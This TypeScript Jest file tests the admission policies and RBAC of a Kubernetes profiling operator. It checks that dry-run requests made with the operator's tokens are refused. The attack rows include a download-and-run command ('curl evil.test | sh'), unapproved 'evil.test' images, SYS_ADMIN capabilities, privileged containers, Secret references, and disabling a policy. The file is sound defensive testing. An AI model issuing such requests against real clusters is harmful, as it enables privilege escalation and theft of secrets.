import { beforeAll, describe, expect, test } from '@jest/globals';
import { FINALIZER, JOB_LABEL, SYSTEM_NAMESPACE } from '../../lib/api/names.ts';
import type { Pod } from '../../lib/api/pod.ts';
import type { PowerTool } from '../../lib/api/power-tool.ts';
import {
  budgetsPath,
  podPath,
  powerToolConfigsPath,
  powerToolPath,
  powerToolsPath,
  profilerImagesPath,
  timersPath,
} from '../../lib/kube/paths.ts';
import type { KubeRequest, PatchKind } from '../../lib/kube/port.ts';
import { labelManager, makeLabelPatch } from '../../lib/make/label.ts';
import { makeTimer } from '../../lib/make/timer.ts';
import type { AddedContainer } from '../../lib/security/injection/rule.ts';
import { CASE_IMAGES } from '../build/injection-cases.ts';
import { clientOf, refusalOf } from './harness/api.ts';
import { jobUidOf, runOf, setScene, type Scene } from './harness/scene.ts';
import { prepareTools } from './harness/tools.ts';
import type { Account } from './install.ts';

let scene: Scene;
beforeAll(async () => {
  await prepareTools();
  scene = await setScene();
});

/** A request with the real token of an account. Nothing is stored: the API server decides on a dry run as on any. */
interface Row {
  readonly by: Account;
  readonly what: string;
  readonly request: (of: Scene) => KubeRequest;
  /** Where others refuse it than those of its group. */
  readonly refusedBy?: string;
}

/** Who refuses it: policies by their names, RBAC, or the API server's own validation. */
type Attack = Row & { readonly refusedBy: string };

const refused = (refusedBy: string, rows: readonly Row[]): Attack[] =>
  rows.map((row) => ({ refusedBy, ...row }));

const dryRun = { dryRun: 'All' };

const patchOf = (path: string, patch: PatchKind, body: unknown): KubeRequest => ({
  method: 'PATCH',
  path,
  patch,
  body,
  query: dryRun,
});
const post = (path: string, body: unknown): KubeRequest => ({ method: 'POST', path, body, query: dryRun });
const remove = (path: string): KubeRequest => ({ method: 'DELETE', path, query: dryRun });

const inject = (pod: Pod, ...containers: readonly AddedContainer[]): KubeRequest =>
  patchOf(podPath(pod.metadata, 'ephemeralcontainers'), 'strategic', {
    metadata: { uid: pod.metadata.uid },
    spec: { ephemeralContainers: containers },
  });

/** The same container, with other values of its variables. */
const saying = (values: Readonly<Record<string, string>>, good: AddedContainer): AddedContainer => ({
  ...good,
  env: (good.env ?? []).map((one) => ({
    ...one,
    ...(one.name in values ? { value: values[one.name] } : {}),
  })),
});

/** The same container for another pod, under another name. */
const forPod = (
  { metadata: { uid, name: pod } }: Pod,
  good: AddedContainer,
  name: string,
): AddedContainer => ({
  ...saying({ TOE_POD_UID: uid, TARGET_POD_NAME: pod, TOE_CONTAINER: name }, good),
  name,
});

const ofTool = (tool: string, good: AddedContainer): AddedContainer =>
  saying({ TOE_TOOL: tool, PROFILER_TOOL: tool }, good);

/** An injection that is good but for this. */
const with_ =
  (more: Partial<AddedContainer>) =>
  ({ pod, good }: Scene): KubeRequest =>
    inject(pod, { ...good, ...more });

const withSecurity =
  (more: NonNullable<AddedContainer['securityContext']>) =>
  ({ pod, good }: Scene): KubeRequest =>
    inject(pod, { ...good, securityContext: { ...good.securityContext, ...more } });

const withEnv =
  (name: string, rest: object) =>
  ({ pod, good }: Scene): KubeRequest =>
    inject(pod, {
      ...good,
      env: [...(good.env ?? []).filter((entry) => entry.name !== name), { name, ...rest }],
    });

const INTO_PODS: readonly Attack[] = [
  {
    what: 'an image that nobody approved',
    request: with_({ image: 'evil.test/x:v1' }),
    refusedBy: 'injection-images',
  },
  {
    what: 'the image of another tool',
    request: with_({ image: CASE_IMAGES.perf }),
    refusedBy: 'injection-images',
  },
  {
    what: 'a tool that nobody knows',
    request: ({ pod, good }: Scene) => inject(pod, ofTool('nonesuch', good)),
    refusedBy: 'injection-images',
  },
  { what: 'no tool', request: withEnv('TOE_TOOL', { value: '' }), refusedBy: 'injection, injection-images' },
  {
    what: 'a capability beyond the config',
    request: withSecurity({ capabilities: { drop: ['ALL'], add: ['SYS_PTRACE', 'SYS_ADMIN'] } }),
    refusedBy: 'injection-config',
  },
  {
    what: 'the capability of another tool',
    request: withSecurity({ capabilities: { drop: ['ALL'], add: ['PERFMON'] } }),
    refusedBy: 'injection-config',
  },
  {
    what: 'a capability that no tool gets',
    request: ({ pod, good }: Scene) =>
      inject(pod, {
        ...ofTool('plain', good),
        image: CASE_IMAGES.plain,
        securityContext: { ...good.securityContext, capabilities: { drop: ['ALL'], add: ['SYS_MODULE'] } },
      }),
    refusedBy: 'injection',
  },
  {
    what: 'the privilege of another tool',
    request: withSecurity({ privileged: true, allowPrivilegeEscalation: true }),
    refusedBy: 'injection-config',
  },
  { what: 'the user of somebody else', request: withSecurity({ runAsUser: 4711 }), refusedBy: 'injection' },
  {
    what: 'a command',
    request: with_({ command: ['sh', '-c', 'curl evil.test | sh'] }),
    refusedBy: 'injection',
  },
  {
    what: 'a volume of the pod',
    request: with_({ volumeMounts: [{ name: 'data', mountPath: '/data' }] }),
    refusedBy: 'injection',
  },
  { what: 'a terminal', request: with_({ tty: true, stdin: true }), refusedBy: 'injection' },
  { what: 'an input', request: with_({ stdin: true }), refusedBy: 'injection' },
  { what: 'no target', request: with_({ targetContainerName: '' }), refusedBy: 'injection' },
  { what: 'a name that is not that of a tool', request: with_({ name: 'debugger' }), refusedBy: 'injection' },
  {
    what: 'two containers at once',
    request: ({ pod, good }: Scene) => inject(pod, good, forPod(pod, good, `${good.name}-2`)),
    refusedBy: 'injection',
  },
  {
    what: 'a tool in a namespace that is not opted in',
    request: ({ closed, goodForClosed }: Scene) => inject(closed, goodForClosed),
    refusedBy: 'injection',
  },
  {
    what: 'a tool in a pod of toe itself',
    request: ({ own, goodForOwn }: Scene) =>
      inject(own, {
        ...goodForOwn,
        securityContext: { ...goodForOwn.securityContext, runAsNonRoot: true } as object,
      }),
    refusedBy: 'injection',
  },
  {
    what: 'a container that says it is for another pod',
    request: withEnv('TOE_POD_UID', { value: '5b8f0b1e-0000-4000-8000-000000000000' }),
    refusedBy: 'injection',
  },
  {
    what: 'a tool in a pod that has been made anew',
    request: ({ pod, good }: Scene) =>
      inject({ ...pod, metadata: { ...pod.metadata, uid: '5b8f0b1e-0000-4000-8000-000000000000' } }, good),
    refusedBy: 'validation',
  },
  {
    what: 'another tool of the same image',
    request: withEnv('PROFILER_TOOL', { value: 'other' }),
    refusedBy: 'injection',
  },
  {
    what: 'results in the files of the target',
    request: withEnv('PVC_PATH', { value: '/proc/1/root/srv' }),
    refusedBy: 'injection',
  },
  {
    what: 'a Secret of the user',
    request: withEnv('PASSWORD', { valueFrom: { secretKeyRef: { name: 'database', key: 'password' } } }),
    refusedBy: 'injection',
  },
  {
    what: 'a ConfigMap of the user',
    request: withEnv('SETTING', { valueFrom: { configMapKeyRef: { name: 'settings', key: 'a' } } }),
    refusedBy: 'injection',
  },
  {
    what: 'every key of a Secret of the user',
    request: with_({ envFrom: [{ secretRef: { name: 'database' } }] }),
    refusedBy: 'injection',
  },
  {
    what: 'an image that nobody approved, by server-side apply',
    request: ({ pod, good }: Scene) => ({
      ...patchOf(podPath(pod.metadata, 'ephemeralcontainers'), 'apply', {
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name: pod.metadata.name },
        spec: { ephemeralContainers: [{ ...good, image: 'evil.test/x:v1' }] },
      }),
      query: { ...dryRun, fieldManager: 'thief', force: 'true' },
    }),
    refusedBy: 'injection-images',
  },
  {
    what: 'an image that nobody approved, by a JSON patch',
    request: ({ pod, good }: Scene) =>
      patchOf(podPath(pod.metadata, 'ephemeralcontainers'), 'json', [
        { op: 'add', path: '/spec/ephemeralContainers', value: [{ ...good, image: 'evil.test/x:v1' }] },
      ]),
    refusedBy: 'injection-images',
  },
  {
    what: 'an image that nobody approved, beside a tool that is there',
    request: ({ tooled, good }: Scene) =>
      inject(tooled, { ...forPod(tooled, good, 'toe-more'), image: 'evil.test/x:v1' }),
    refusedBy: 'injection-images',
  },
  {
    what: 'another image for a tool that is there',
    request: ({ tooled }: Scene) =>
      patchOf(podPath(tooled.metadata, 'ephemeralcontainers'), 'json', [
        { op: 'replace', path: '/spec/ephemeralContainers/0/image', value: 'evil.test/x:v1' },
      ]),
    refusedBy: 'validation',
  },
].map((row) => ({ by: 'creation' as const, ...row }));

const status = (pod: Pod, body: unknown, patch: PatchKind = 'merge'): KubeRequest =>
  patchOf(podPath(pod.metadata, 'status'), patch, body);

const ON_PODS: readonly Attack[] = [
  {
    what: 'a label of the user that a Service goes by',
    request: ({ pod }: Scene) => status(pod, { metadata: { labels: { app: 'other' } } }),
  },
  {
    what: 'a label of the user taken away',
    request: ({ pod }: Scene) => status(pod, { metadata: { labels: { app: null } } }),
  },
  { what: 'a new label', request: ({ pod }: Scene) => status(pod, { metadata: { labels: { x: 'y' } } }) },
  {
    what: 'a new label by server-side apply',
    request: ({ pod }: Scene) => ({
      ...status(
        pod,
        { apiVersion: 'v1', kind: 'Pod', metadata: { name: pod.metadata.name, labels: { x: 'y' } } },
        'apply',
      ),
      query: { ...dryRun, fieldManager: 'thief' },
    }),
  },
  {
    what: 'an annotation',
    request: ({ pod }: Scene) => status(pod, { metadata: { annotations: { x: 'y' } } }),
  },
  {
    what: 'a finalizer, so that the pod never goes',
    request: ({ pod }: Scene) => status(pod, { metadata: { finalizers: ['thief.test/x'] } }),
  },
  { what: 'the phase of a pod', request: ({ pod }: Scene) => status(pod, { status: { phase: 'Failed' } }) },
  {
    what: 'the readiness of a pod',
    request: ({ pod }: Scene) =>
      status(pod, { status: { conditions: [{ type: 'Ready', status: 'False' }] } }),
  },
  {
    what: 'the address of a pod',
    request: ({ pod }: Scene) => status(pod, { status: { podIP: '10.0.0.66' } }),
  },
  {
    what: 'the mark of a job in a pod where no tool is',
    request: ({ pod }: Scene) =>
      status(pod, { metadata: { labels: { [JOB_LABEL]: jobUidOf(scene.tooled) } } }),
  },
  {
    what: 'the mark of another job than that of the tool',
    request: ({ tooled, job }: Scene) =>
      status(tooled, { metadata: { labels: { [JOB_LABEL]: job.metadata.uid } } }),
  },
].flatMap((row, at) => [
  { by: (['creation', 'status', 'cleanup'] as const)[at % 3] ?? 'status', refusedBy: 'pod-marks', ...row },
]);

const timer = ({ job }: Scene): Record<string, unknown> =>
  makeTimer(job, { wakes: 'creation', deadline: new Date(Date.now() + 60_000) }, new Date());

const withTimer =
  (edit: (of: Record<'metadata' | 'spec', Record<string, unknown>>) => object) =>
  (of: Scene): KubeRequest => {
    const made = timer(of) as Record<'metadata' | 'spec', Record<string, unknown>>;
    return post(timersPath, { ...made, ...edit(made) });
  };

const TIMERS = refused('timers', [
  {
    by: 'creation',
    what: 'a Job that runs a pod',
    request: withTimer(({ spec }) => ({ spec: { ...spec, parallelism: 1 } })),
  },
  {
    by: 'status',
    what: 'a Job that runs as many pods as one does by itself',
    request: withTimer(({ spec: { parallelism: _p, ...spec } }) => ({ spec })),
  },
  {
    by: 'config',
    what: 'a timer without an end',
    request: withTimer(({ spec: { activeDeadlineSeconds: _a, ...spec } }) => ({ spec })),
  },
  {
    by: 'cleanup',
    what: 'a Job that is no timer',
    request: withTimer(({ metadata }) => ({ metadata: { ...metadata, name: 'miner' } })),
  },
]);

const tool = ({ metadata }: PowerTool, body: unknown): KubeRequest =>
  patchOf(powerToolPath(metadata), 'merge', body);

const JOBS = refused('own-power-tools', [
  {
    by: 'creation',
    what: 'a job of its own',
    refusedBy: 'own-power-tools, tool-grants',
    request: ({ namespace, schedule }) =>
      post(powerToolsPath(namespace), runOf(schedule, { ownerReferences: [], labels: {} })),
  },
  {
    by: 'creation',
    what: 'a run that looks like that of another schedule',
    request: ({ namespace, schedule, job }) =>
      post(powerToolsPath(namespace), runOf(schedule, { labels: { 'toe.run/schedule': job.metadata.uid } })),
  },
  {
    by: 'creation',
    what: 'a run that makes runs',
    request: ({ namespace, schedule }) => {
      const run = runOf(schedule);
      return post(powerToolsPath(namespace), {
        ...run,
        spec: { ...(run['spec'] as object), schedule: '@hourly' },
      });
    },
  },
  {
    by: 'creation',
    what: 'the end of a job of a user',
    request: ({ job }) => tool(job, { spec: { shutdown: 'Cancel' } }),
  },
  {
    by: 'cleanup',
    what: 'the end of a schedule of a user',
    request: ({ schedule }) => tool(schedule, { spec: { shutdown: 'Stop' } }),
  },
  {
    by: 'creation',
    what: 'a pause of a job of a user',
    request: ({ job }) => tool(job, { spec: { suspend: true } }),
  },
  {
    by: 'creation',
    what: 'a label of a job',
    request: ({ job }) => tool(job, { metadata: { labels: { x: 'y' } } }),
  },
  {
    by: 'cleanup',
    what: 'an annotation of a job',
    request: ({ job }) => tool(job, { metadata: { annotations: { x: 'y' } } }),
  },
  {
    by: 'creation',
    what: 'another owner of a job, with whom it goes',
    request: ({ job }) =>
      tool(job, {
        metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: 'a-uid' }] },
      }),
  },
  {
    by: 'cleanup',
    what: 'a finalizer that is not ours',
    request: ({ job }) => tool(job, { metadata: { finalizers: ['thief.test/x'] } }),
  },
  {
    by: 'cleanup',
    what: 'the deletion of a job at work',
    request: ({ job }) => remove(powerToolPath(job.metadata)),
  },
  {
    by: 'cleanup',
    what: 'the deletion of a schedule',
    request: ({ schedule }) => remove(powerToolPath(schedule.metadata)),
  },
  {
    by: 'cleanup',
    what: 'the deletion of a job that is over and may stay',
    request: ({ lasting }) => remove(powerToolPath(lasting.metadata)),
  },
]);

const phaseOf = ({ metadata }: PowerTool, phase: string | null): KubeRequest =>
  patchOf(powerToolPath(metadata, 'status'), 'merge', { status: { phase } });

const STATUS = refused('own-job-status', [
  { by: 'status', what: 'a job that is over begun anew', request: ({ over }) => phaseOf(over, 'Running') },
  {
    by: 'creation',
    what: 'a job that is over as cancelled',
    request: ({ over }) => phaseOf(over, 'Cancelled'),
  },
  { by: 'status', what: 'a job that is over without a phase', request: ({ over }) => phaseOf(over, null) },
  ...['Completed', 'Cancelled', 'Failed', 'Pending'].map((phase) => ({
    by: 'creation' as const,
    what: `a schedule of a user as ${phase}`,
    request: ({ schedule }: Scene) => phaseOf(schedule, phase),
  })),
  {
    by: 'status',
    what: 'a schedule that has not begun as Completed',
    request: ({ fresh }) => phaseOf(fresh, 'Completed'),
  },
]);

const ledger = (body: unknown): KubeRequest => patchOf(budgetsPath, 'merge', body);
const UID = '5b8f0b1e-0000-4000-8000-00000000000b';

const LEDGER = refused('ledger', [
  { by: 'creation', what: 'a key that is no job', request: () => ledger({ data: { x: '{}' } }) },
  { by: 'status', what: 'an entry that is no object', request: () => ledger({ data: { [UID]: 'x' } }) },
  { by: 'cleanup', what: 'a ledger that nobody can change', request: () => ledger({ immutable: true }) },
  {
    by: 'creation',
    what: 'a label of the ledger',
    request: () => ledger({ metadata: { labels: { 'toe.run/config': 'images' } } }),
  },
  { by: 'creation', what: 'data that are no text', request: () => ledger({ binaryData: { [UID]: 'e30=' } }) },
]);

const policies = '/apis/admissionregistration.k8s.io/v1';
const rbac = '/apis/rbac.authorization.k8s.io/v1';
const named = (name: string): string => `toe-${name}.codriverlabs.ai.toe.run`;

const NO_RIGHT = refused('RBAC', [
  { by: 'status', what: 'a tool in a pod', request: with_({}) },
  { by: 'cleanup', what: 'a tool in a pod', request: with_({}) },
  { by: 'config', what: 'a tool in a pod', request: with_({}) },
  {
    by: 'creation',
    what: 'another image of a pod',
    request: ({ pod }) =>
      patchOf(podPath(pod.metadata), 'strategic', {
        spec: { containers: [{ name: 'app', image: 'evil.test/x:v1' }] },
      }),
  },
  {
    by: 'creation',
    what: 'the map of images',
    request: () => patchOf(profilerImagesPath, 'merge', { data: { aperf: 'evil.test/x:v1' } }),
  },
  {
    by: 'creation',
    what: 'a PowerToolConfig',
    request: () =>
      patchOf(`${powerToolConfigsPath}/aperf`, 'merge', { spec: { security: { allowPrivileged: true } } }),
  },
  {
    by: 'config',
    what: 'a PowerToolConfig',
    request: () =>
      patchOf(`${powerToolConfigsPath}/aperf`, 'merge', { spec: { security: { allowPrivileged: true } } }),
  },
  {
    by: 'creation',
    what: 'a policy',
    request: () =>
      patchOf(`${policies}/validatingadmissionpolicies/${named('injection')}`, 'merge', {
        spec: { failurePolicy: 'Ignore' },
      }),
  },
  {
    by: 'creation',
    what: 'the binding of a policy',
    request: () => remove(`${policies}/validatingadmissionpolicybindings/${named('injection')}`),
  },
  {
    by: 'creation',
    what: 'a label of a namespace',
    request: ({ closed }) =>
      patchOf(`/api/v1/namespaces/${closed.metadata.namespace}`, 'merge', {
        metadata: { labels: { 'toe.run/profiling': 'enabled' } },
      }),
  },
  {
    by: 'creation',
    what: 'its own role',
    request: () => patchOf(`${rbac}/clusterroles/toe-creation`, 'merge', { rules: [] }),
  },
  {
    by: 'creation',
    what: 'a token of itself',
    request: () =>
      post(`/api/v1/namespaces/${SYSTEM_NAMESPACE}/serviceaccounts/toe-creation/token`, { spec: {} }),
  },
  {
    by: 'cleanup',
    what: 'a Secret',
    request: ({ namespace }) =>
      post(`/api/v1/namespaces/${namespace}/secrets`, { metadata: { name: 'toe-x' } }),
  },
  {
    by: 'creation',
    what: 'a Job in a namespace of users',
    request: (of) =>
      post(`/apis/batch/v1/namespaces/${of.namespace}/jobs`, {
        ...timer(of),
        metadata: { name: 'toe-creation-x' },
      }),
  },
  {
    by: 'cleanup',
    what: 'a change of a timer',
    request: () => patchOf(`${timersPath}/any`, 'merge', { spec: { parallelism: 5 } }),
  },
  {
    by: 'status',
    what: 'the deletion of a job',
    request: ({ over }) => remove(powerToolPath(over.metadata)),
  },
  {
    by: 'source',
    what: 'a mark on a pod',
    request: ({ tooled }) => status(tooled, { metadata: { labels: { [JOB_LABEL]: jobUidOf(tooled) } } }),
  },
]);

const GROUPS: readonly (readonly [string, readonly Attack[]])[] = [
  ['puts into no pod', INTO_PODS],
  ['changes on no pod', ON_PODS],
  ['makes no timer of', TIMERS],
  ['does to no job', JOBS],
  ['says of no job', STATUS],
  ['writes into its ledger no', LEDGER],
  ['has no right to', NO_RIGHT],
];

describe.each(GROUPS)('Who has a token of toe %s', (_group, attacks) => {
  test.each(attacks)('$what ($by, refused by $refusedBy)', async ({ by, request, refusedBy }) => {
    const { status: code, message } = await refusalOf(clientOf(by)(request(scene)));
    // Where two policies refuse, the API server tells of one.
    const signs = refusedBy.split(', ').map(signOf);
    expect(signs.some((sign) => message.includes(sign)) ? [] : [message, ...signs]).toEqual([]);
    expect(code).toBe(refusedBy === 'validation' ? 422 : 403);
  });
});

/** What the words of a refusal say about who refuses. */
function signOf(refusedBy: string): string {
  if (refusedBy === 'RBAC') return ' cannot ';
  return refusedBy === 'validation'
    ? 'is invalid'
    : `ValidatingAdmissionPolicy '${named(refusedBy)}' with binding`;
}

test('There are at least forty attacks, most of them refused by a policy', () => {
  const all = GROUPS.flatMap(([, attacks]) => attacks);
  expect(all.length).toBeGreaterThanOrEqual(70);
  expect(
    all.filter(({ refusedBy }) => !['RBAC', 'validation'].includes(refusedBy)).length,
  ).toBeGreaterThanOrEqual(50);
});

test('Through the status of a pod nothing of its spec changes', async () => {
  const { pod } = scene;
  const changed = await clientOf('creation')(
    status(
      pod,
      { spec: { activeDeadlineSeconds: 1, containers: [{ name: 'app', image: 'evil.test/x:v1' }] } },
      'strategic',
    ),
  );
  expect(changed).toMatchObject({ spec: { containers: [{ image: 'registry.test/app:v1' }] } });
  expect((changed as { spec: object }).spec).not.toHaveProperty('activeDeadlineSeconds');
});

const LEGAL: readonly Row[] = [
  { by: 'creation', what: 'an approved tool in a pod', request: ({ pod, good }) => inject(pod, good) },
  {
    by: 'creation',
    what: 'a second tool beside one that is there',
    request: ({ tooled, good }) => inject(tooled, forPod(tooled, good, 'toe-more')),
  },
  {
    by: 'creation',
    what: 'the same tool once more, which changes nothing',
    request: ({ tooled }) => inject(tooled, ...((tooled.spec.ephemeralContainers ?? []) as AddedContainer[])),
  },
  {
    by: 'creation',
    what: 'the mark of its job',
    request: ({ tooled }) => ({
      ...status(tooled, makeLabelPatch(tooled, jobUidOf(tooled), { marked: true }), 'apply'),
      query: { ...dryRun, fieldManager: labelManager(jobUidOf(tooled)), force: 'true' },
    }),
  },
  {
    by: 'cleanup',
    what: 'no mark any more',
    request: ({ tooled }) => ({
      ...status(tooled, makeLabelPatch(tooled, jobUidOf(tooled), { marked: false }), 'apply'),
      query: { ...dryRun, fieldManager: labelManager(jobUidOf(tooled)), force: 'true' },
    }),
  },
  { by: 'creation', what: 'a timer', request: withTimer(() => ({})) },
  { by: 'config', what: 'a timer', request: withTimer(() => ({})) },
  {
    by: 'creation',
    what: 'a run of a schedule',
    request: ({ namespace, schedule }) => post(powerToolsPath(namespace), runOf(schedule)),
  },
  {
    by: 'creation',
    what: 'the end of a run',
    request: ({ run }) => tool(run, { spec: { shutdown: 'Cancel' } }),
  },
  {
    by: 'creation',
    what: 'its finalizer',
    request: ({ job }) => tool(job, { metadata: { finalizers: [FINALIZER] } }),
  },
  {
    by: 'cleanup',
    what: 'the deletion of a job that is over',
    request: ({ over }) => remove(powerToolPath(over.metadata)),
  },
  {
    by: 'creation',
    what: 'an entry of the ledger',
    request: () => ledger({ data: { [UID]: '{"tool":"aperf","job":"shop/job","seats":{}}' } }),
  },
  {
    by: 'status',
    what: 'the status of a job',
    request: ({ job }) =>
      patchOf(powerToolPath(job.metadata, 'status'), 'merge', { status: { phase: 'Running' } }),
  },
  {
    by: 'status',
    what: 'more of the status of a job that is over',
    request: ({ over }) =>
      patchOf(powerToolPath(over.metadata, 'status'), 'merge', {
        status: { phase: 'Completed', message: 'its files are there' },
      }),
  },
  {
    by: 'creation',
    what: 'that a schedule goes on',
    request: ({ schedule }) => phaseOf(schedule, 'Scheduled'),
  },
  {
    by: 'creation',
    what: 'that a schedule cannot be read',
    request: ({ fresh }) => phaseOf(fresh, 'Failed'),
  },
  {
    by: 'creation',
    what: 'the end of a schedule that somebody has stopped',
    request: ({ stopped }) => phaseOf(stopped, 'Completed'),
  },
  {
    by: 'config',
    what: 'the status of a PowerToolConfig',
    request: () => patchOf(`${powerToolConfigsPath}/aperf/status`, 'merge', { status: { conditions: [] } }),
  },
];

describe('toe itself may write', () => {
  test.each(LEGAL)('$what ($by)', async ({ by, request }) => {
    expect(await clientOf(by)(request(scene))).toMatchObject({ metadata: {} });
  });
});
